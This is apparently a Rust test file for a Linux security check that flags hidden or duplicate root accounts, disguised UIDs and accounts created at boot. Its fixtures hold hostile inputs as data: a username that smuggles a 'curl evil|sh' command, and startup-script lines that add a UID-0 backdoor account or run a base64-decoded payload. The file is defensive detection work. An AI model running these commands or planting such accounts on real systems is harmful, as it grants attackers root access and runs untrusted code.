//! LNX-ACCT-003.

use crate::evidence::linux::testing::Build;
use crate::policy::Status;
use crate::policy::checks::linux::testing::status;

const ROOT: &str = "root:x:0:0:root:/root:/bin/bash\n";

fn roots(passwd: &str) -> Status {
    status(
        "LNX-ACCT-003",
        Build::bare().file("/etc/passwd", 0o644, passwd),
    )
}

#[test]
fn a_second_uid_0_and_hidden_accounts_fail() {
    assert_eq!(roots(ROOT), Status::Pass);
    assert_eq!(
        roots(&format!("{ROOT}toor:x:0:0::/root:/bin/sh\n")),
        Status::Fail
    );
    assert_eq!(
        roots(&format!("{ROOT}toor:x:00:0::/root:/bin/sh\n")),
        Status::Fail
    );
    for uid in ["-0", "+0", " 0", "000"] {
        let line = format!("{ROOT}toor:x:{uid}:0::/root:/bin/sh\n");
        assert_eq!(roots(&line), Status::Fail, "{uid}");
    }
    assert_eq!(roots(&format!("{ROOT}{ROOT}")), Status::Fail);
    assert_eq!(roots(&format!("{ROOT}+::::::\n")), Status::Fail);
    assert_eq!(
        roots(&format!("{ROOT}a\x08b:x:7:7::/:/bin/sh\n")),
        Status::Fail
    );
    assert_eq!(
        roots(&format!("{ROOT}bin :x:7:7::/:/bin/sh\n")),
        Status::Fail
    );
    let extra = Build::bare().file("/var/lib/extrausers/passwd", 0o644, "x:x:0:0::/:/bin/sh\n");
    assert_eq!(status("LNX-ACCT-003", extra), Status::Fail);
}

#[test]
fn duplicates_members_and_backups_warn() {
    assert_eq!(
        roots(&format!("{ROOT}a:x:7:7::/:/bin/sh\nb:x:7:8::/:/bin/sh\n")),
        Status::Warn
    );
    let acct = |b| status("LNX-ACCT-003", b);
    assert_eq!(
        acct(Build::bare().file("/etc/group", 0o644, "root:x:0:\nsudo:x:27:eve\n")),
        Status::Warn
    );
    assert_eq!(
        acct(Build::bare().file("/etc/group", 0o644, "sudo:x:27:ubuntu\n")),
        Status::Pass
    );
    assert_eq!(
        acct(Build::bare().file("/etc/passwd-", 0o644, format!("{ROOT}x:x:0:0::/:/bin/sh\n"))),
        Status::Warn
    );
    assert_eq!(
        roots(&format!("{ROOT}sync:x:5:0::/sbin:/bin/sync\n")),
        Status::Pass
    );
    assert_eq!(
        roots(&format!("{ROOT}eve:x:5:27::/home/eve:/bin/sh\n")),
        Status::Warn
    );
    assert_eq!(acct(Build::bare().missing("/etc/passwd")), Status::Unknown);
}

#[test]
fn names_of_the_image_stay_one_word_in_fixes() {
    let hostile = format!("{ROOT}a;curl${{IFS}}evil|sh;#:x:0:0::/root:/bin/sh\n");
    let build = Build::bare().file("/etc/passwd", 0o644, hostile);
    let found = crate::policy::checks::linux::testing::check("LNX-ACCT-003", build);
    let fixes: Vec<&str> = found.fix.iter().map(|f| f.en.as_str()).collect();
    let quoted = |f: &&str| f.contains("userdel -f 'a;curl${IFS}evil|sh;#';");
    assert!(fixes.iter().any(quoted), "{fixes:?}");
}

#[test]
fn accounts_from_elsewhere_are_not_known() {
    let nss = |line: &str, files: &[&str]| {
        let mut build = Build::bare().file("/etc/nsswitch.conf", 0o644, format!("{line}\n"));
        for file in files {
            build = build.file(file, 0o644, "x");
        }
        status("LNX-ACCT-003", build)
    };
    assert_eq!(nss("passwd: files systemd", &[]), Status::Pass);
    assert_eq!(nss("passwd: sss files", &[]), Status::Pass);
    assert_eq!(
        nss("passwd: sss files", &["/etc/sssd/sssd.conf"]),
        Status::Unknown
    );
    assert_eq!(nss("passwd: files own", &[]), Status::Unknown);
    assert_eq!(
        nss("shadow: files [NOTFOUND=return] own", &[]),
        Status::Unknown
    );
    assert_eq!(nss("netgroup: nis", &["/etc/yp.conf"]), Status::Pass);
    let record = Build::bare().file("/etc/userdb/ops.user", 0o644, "{}");
    assert_eq!(status("LNX-ACCT-003", record), Status::Unknown);
}

#[test]
fn accounts_that_are_made_at_boot_count() {
    let line =
        |path: &str, text: &str| status("LNX-ACCT-003", Build::bare().file(path, 0o644, text));
    assert_eq!(
        line("/usr/lib/sysusers.d/a.conf", "u ops 0 - /root /bin/bash\n"),
        Status::Fail
    );
    assert_eq!(
        line(
            "/usr/lib/sysusers.d/a.conf",
            "u ops 990 - / /usr/sbin/nologin\n"
        ),
        Status::Pass
    );
    let script = |text: &str| {
        let text = format!("#!/bin/sh\n{text}\n");
        status(
            "LNX-ACCT-003",
            Build::bare().file("/etc/rc.local", 0o755, text),
        )
    };
    assert_eq!(script("useradd -o -u 0 ops"), Status::Unknown);
    assert_eq!(
        script("echo ops:x:0:0::/:/bin/sh >> /etc/passwd"),
        Status::Unknown
    );
    assert_eq!(script("base64 -d /srv/x | sh"), Status::Unknown);
    assert_eq!(script("grep root /etc/passwd"), Status::Pass);
}
